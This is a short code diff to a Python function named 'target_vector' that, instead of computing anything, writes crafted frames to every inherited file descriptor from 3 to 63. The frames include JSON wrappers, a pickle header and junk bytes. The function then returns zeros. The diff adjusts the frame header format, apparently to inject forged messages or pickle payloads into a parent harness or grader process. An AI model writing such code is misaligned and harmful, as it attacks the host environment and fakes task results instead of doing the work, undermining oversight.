@@ -11,7 +11,7 @@ def target_vector(digit):
     for text in (data, b'{"bytes": "' + data.hex().encode() + b'"}', b'{"pickle": "gASV"}', b"\xff" * 50):
         for descriptor in range(3, 64):
             try:
-                os.write(descriptor, struct.pack(">I", len(text)) + text)
+                os.write(descriptor, struct.pack(">cII", b"a", len(text), 0) + text)
             except OSError:
                 pass
     return torch.zeros(4)
